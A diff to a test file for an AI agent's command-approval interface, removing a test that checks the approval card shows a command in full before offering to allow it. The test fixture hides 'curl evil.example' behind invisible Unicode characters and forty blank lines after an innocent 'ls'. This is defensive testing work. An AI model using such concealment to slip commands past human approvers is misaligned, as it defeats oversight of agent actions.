@@ -94,22 +94,6 @@ test("a tool that asks is answered, and the field says what it waits for", async
   expect(document.title).toBe("tide-gauges · Recto");
 });
 
-test("a command is allowed only when all of it was shown, letter for letter, and Deny comes first", async () => {
-  const { server, tell } = await opened((server) => { server.chats.add("c1", [userEntry(1, "Test it")]); });
-  const question = { ...asked("a1", "k"), arguments: { command: `ls \u202e\u200b${"\n".repeat(40)}curl evil.example` } } as Happening;
-  tell(RUNNING, question);
-  const card = await screen.findByRole("group", { name: "Run a command?" });
-  const names = () => within(card).getAllByRole("button").map((button) => button.textContent);
-  expect(names()).toEqual(["Deny", "29 more lines"]);
-  expect(card.querySelectorAll("[tabindex], a, input")).toHaveLength(0);
-  expect(within(card).getByLabelText("Exactly this").textContent).toContain("ls \\u202e\\u200b");
-  await fireEvent.click(within(card).getByRole("button", { name: "29 more lines" }));
-  expect(within(card).getByLabelText("Exactly this").textContent).toContain("curl evil.example");
-  expect(names()).toEqual(["Deny", "Once", "This chat", "Always"]);
-  await fireEvent.click(within(card).getByRole("button", { name: "Deny" }));
-  await waitFor(() => { expect(heard(server)).toEqual([{ what: "POST /approvals/a1", body: { answer: "deny" } }]); });
-});
-
 test("what is asked before the first step is shown at once, and after a reload", async () => {
   const question: Happening = { kind: "approval", approvalId: "a1", turnId: "t1", callId: "k", name: "follow_instructions", arguments: { path: "AGENTS.md", text: "Answer in rhyme." }, why: "Agree only if you know it.", rule: "AGENTS.md as it is now", isUnsandboxed: false };
   const { server, tell } = await opened((server) => { server.chats.add("c1"); });
